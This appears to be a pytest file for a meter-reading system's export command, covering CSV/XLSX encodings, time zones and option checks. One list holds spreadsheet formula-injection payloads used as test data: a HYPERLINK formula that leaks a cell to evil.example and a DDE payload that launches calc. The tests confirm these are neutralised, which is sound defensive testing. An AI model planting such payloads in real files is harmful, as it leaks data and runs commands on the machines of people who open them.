"""`ivr readings export`: safe to open in a spreadsheet, as Excel reads it, and in the utility's calendar."""

import csv
import io
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from ivr.cli import main
from ivr.runtime import runtime
from ivr.store import accounts_csv
from ivr.store.export_formats import XLSX, UnwritableValue, write_table
from ivr.store.readings_csv import HEADER
from tests.conftest import store_readings
from tests.sessions import transaction

pytestmark = pytest.mark.both_databases  # SQL behaviour: see tests/conftest.py

SERIALS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0",
           "-2-3"]  # fmt: skip


@pytest.fixture
def export(app, runner, monkeypatch):
    """export(*options) -> the rows `ivr readings export` writes for the app's database."""
    monkeypatch.setenv("IVR_DATABASE_URL", runtime(app).config.database_url)

    def run(*options: str) -> list[dict]:
        result = runner.invoke(main, ["readings", "export", *options])
        assert result.exit_code == 0, result.output
        assert result.output.splitlines()[0] == ",".join(HEADER)
        return list(csv.DictReader(io.StringIO(result.output)))

    return run


def import_meters(app, meters: list[tuple[str, str, int]]) -> None:
    """Import (account, meter serial, last value) rows, each meter read last on 2026-10-01."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(accounts_csv.HEADER)
    for n, (account, serial, last) in enumerate(meters):
        writer.writerow(
            [account, "", f"ул. Новая, д. {n}", "Москва", serial, 1, 6, last, "", "", "2026-10-01"]
        )
    with app.app_context(), transaction() as s:
        accounts_csv.import_accounts(s, io.StringIO(out.getvalue()))


def save(app, serial: str, value: int, previous: int, at: datetime, flags=()) -> None:
    with app.app_context(), transaction() as s:  # previous: the meter's
        store_readings(s, serial, [value], at, insist="NEGATIVE" in flags)


def test_formulas_from_imported_serials_are_neutralised_and_negative_use_stays_a_number(app, export):
    import_meters(app, [(f"55500{n}", serial, 10) for n, serial in enumerate(SERIALS)])
    for serial in SERIALS:
        save(app, serial, 5, 10, datetime(2026, 11, 17, 9), ["NEGATIVE"])

    exported = export()
    # "-2-3" is only arithmetic; nothing in it can call a function or reach outside the sheet.
    assert [r["meter"] for r in exported] == ["'" + s for s in SERIALS[:3]] + ["-2-3"]
    assert {r["consumption"] for r in exported} == {"-5"}  # a number to a spreadsheet, not a formula


def test_since_is_a_day_of_the_utility_calendar_and_received_at_carries_its_offset(app, export):
    save(app, "M-1", 1100, 1000, datetime(2026, 11, 19, 20, 59))  # 23:59 on the 19th in Moscow
    save(app, "M-2", 5100, 5000, datetime(2026, 11, 19, 21, 0))  # midnight of the 20th in Moscow

    [row] = export("--since", "2026-11-20")
    assert (row["meter"], row["received_at"]) == ("M-2", "2026-11-20T00:00:00+03:00")
    assert [r["received_at"] for r in export()] == ["2026-11-19T23:59:00+03:00", "2026-11-20T00:00:00+03:00"]


def test_the_time_zone_is_the_configured_one(app, export, monkeypatch):
    monkeypatch.setenv("IVR_TIMEZONE", "Asia/Yakutsk")  # UTC+9
    save(app, "M-1", 1100, 1000, datetime(2026, 11, 19, 15, 0))  # midnight of the 20th in Yakutsk
    [row] = export("--since", "2026-11-20")
    assert row["received_at"] == "2026-11-20T00:00:00+09:00"


@pytest.fixture
def export_bytes(app, runner, monkeypatch, tmp_path):
    """export_bytes(*options) -> the bytes `ivr readings export` writes, to -o FILE when given."""
    monkeypatch.setenv("IVR_DATABASE_URL", runtime(app).config.database_url)

    def run(*options: str) -> bytes:
        if "-o" in options:  # the file goes to a temporary folder
            at = options.index("-o") + 1
            options = (*options[:at], str(tmp_path / options[at]), *options[at + 1 :])
        result = runner.invoke(main, ["readings", "export", *options])
        assert result.exit_code == 0, result.output
        return Path(options[at]).read_bytes() if "-o" in options else result.stdout_bytes

    return run


# Cyrillic from the operator's file, a leading zero, negative use: what Excel most likely mangles.
EXPECTED = [
    {"account": "000123", "meter": "Меркурий-230 №7", "value": 12600, "previous": 12500, "consumption": 100,
     "received_at": "2026-11-17T12:00:00+03:00"},
    {"account": "400004", "meter": "СО-505/ЭЛ «ночь»", "value": 900, "previous": 1000, "consumption": -100,
     "received_at": "2026-11-18T00:30:00+03:00"},
]  # fmt: skip


@pytest.fixture
def cyrillic(app):
    import_meters(app, [(e["account"], e["meter"], e["previous"]) for e in EXPECTED])
    save(app, "Меркурий-230 №7", 12600, 12500, datetime(2026, 11, 17, 9))
    save(app, "СО-505/ЭЛ «ночь»", 900, 1000, datetime(2026, 11, 17, 21, 30), ["NEGATIVE"])


def read_csv(data: bytes, encoding: str, delimiter: str) -> list[dict]:
    """As Excel reads a CSV: in the encoding (a BOM says UTF-8), split on the separator."""
    return list(csv.DictReader(io.StringIO(data.decode(encoding), newline=""), delimiter=delimiter))


CSV_FORMATS = {  # options -> how Excel is told (or guesses) to read the file
    "default": ((), "utf-8", ","),
    "excel": (("--excel",), "utf-8-sig", ";"),
    "cp1251": (("--encoding", "cp1251", "--delimiter", ";"), "cp1251", ";"),
    "unicode text": (("--encoding", "utf-16", "--delimiter", "tab"), "utf-16", "\t"),
}


@pytest.mark.parametrize("form", CSV_FORMATS)
def test_every_csv_format_reads_back_in_its_encoding_and_separator_with_cyrillic_and_numbers_intact(
    cyrillic, export_bytes, form
):
    options, encoding, delimiter = CSV_FORMATS[form]
    data = export_bytes(*options, "-o", "readings.csv")
    rows = read_csv(data, encoding, delimiter)
    assert list(rows[0]) == HEADER
    assert [{k: r[k] for k in EXPECTED[0]} for r in rows] == [
        {k: str(v) for k, v in e.items()} for e in EXPECTED
    ]
    assert (rows[1]["zone"], rows[1]["flags"]) == ("T1", "NEGATIVE")
    assert rows == read_csv(export_bytes(), "utf-8", ",")  # every column, as in the plain export


def test_excel_csv_is_utf8_with_a_bom_semicolons_and_crlf(cyrillic, export_bytes):
    data = export_bytes("--excel")
    assert data.startswith(b"\xef\xbb\xbfaccount;meter;zone;") and data.count(b"\xef\xbb\xbf") == 1
    assert data.count(b"\n") == data.count(b"\r\n") == 3


@pytest.mark.parametrize("options", [("-o", "readings.xlsx"), ("--format", "xlsx")])
def test_the_workbook_holds_texts_as_texts_and_numbers_as_numbers(cyrillic, export_bytes, options):
    sheet = load_workbook(io.BytesIO(export_bytes(*options)))["readings"]
    header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert header == HEADER
    assert [{k: dict(zip(HEADER, r))[k] for k in EXPECTED[0]} for r in rows] == EXPECTED
    plain = read_csv(export_bytes(), "utf-8", ",")
    assert [["" if v is None else str(v) for v in r] for r in rows] == [list(r.values()) for r in plain]


def test_the_workbook_keeps_a_formula_like_serial_as_its_text(app, export_bytes):
    import_meters(app, [("555000", SERIALS[0], 10)])
    save(app, SERIALS[0], 15, 10, datetime(2026, 11, 17, 9))
    sheet = load_workbook(io.BytesIO(export_bytes("--format", "xlsx")))["readings"]
    assert (sheet["B2"].value, sheet["B2"].data_type) == (SERIALS[0], "s")  # no "'": a text cell is text


def test_a_value_the_encoding_cannot_write_names_its_line_and_column_and_writes_nothing(
    app, runner, monkeypatch, tmp_path
):
    monkeypatch.setenv("IVR_DATABASE_URL", runtime(app).config.database_url)
    import_meters(app, [("100001", "M-1", 10), ("100002", "계량기-2", 10)])
    save(app, "M-1", 15, 10, datetime(2026, 11, 17, 9))
    save(app, "계량기-2", 15, 10, datetime(2026, 11, 17, 10))
    (tmp_path / "out").mkdir()
    earlier = tmp_path / "out" / "readings.csv"
    earlier.write_text("yesterday's export")
    result = runner.invoke(main, ["readings", "export", "--encoding", "cp1251", "-o", str(earlier)])
    assert result.exit_code == 1
    assert "line 3, meter: '계량기-2' has '계'" in result.stderr and "nothing was written" in result.stderr
    assert earlier.read_text() == "yesterday's export" and list(earlier.parent.iterdir()) == [earlier]


def test_a_file_in_a_missing_folder_is_one_line(app, runner, tmp_path, monkeypatch):
    monkeypatch.setenv("IVR_DATABASE_URL", runtime(app).config.database_url)
    result = runner.invoke(main, ["readings", "export", "-o", str(tmp_path / "no" / "r.csv")])
    assert (
        result.exit_code == 1
        and result.stderr == f"ivr: {tmp_path / 'no' / 'r.csv'}: No such file or directory\n"
    )


@pytest.mark.parametrize("options, says", [
    (("-o", "{tmp}/r.xlsx", "--excel"), "are for CSV, not .xlsx"),
    (("--format", "xlsx", "--delimiter", ";"), "are for CSV, not .xlsx"),
    (("--excel", "--encoding", "cp1251"), "--excel sets the encoding and separator"),
    (("-o", "{tmp}/r.xlsx", "--format", "csv"), "/r.xlsx is not a .csv file"),
    (("--encoding", "klingon"), "'klingon' is not an encoding Python knows"),
])  # fmt: skip
def test_options_that_contradict_each_other_are_refused(app, runner, tmp_path, options, says):
    result = runner.invoke(main, ["readings", "export", *(o.format(tmp=tmp_path) for o in options)])
    assert result.exit_code == 2 and says in result.stderr
    assert not list(tmp_path.glob("r.*"))


def test_a_control_character_a_workbook_cannot_hold_names_its_line_and_column():
    with pytest.raises(UnwritableValue, match=r"line 3, call_sid: 'SM\\x01' holds a control character"):
        write_table(io.BytesIO(), ["value", "call_sid"], [[1, "SM1"], [2, "SM\x01"]], XLSX)
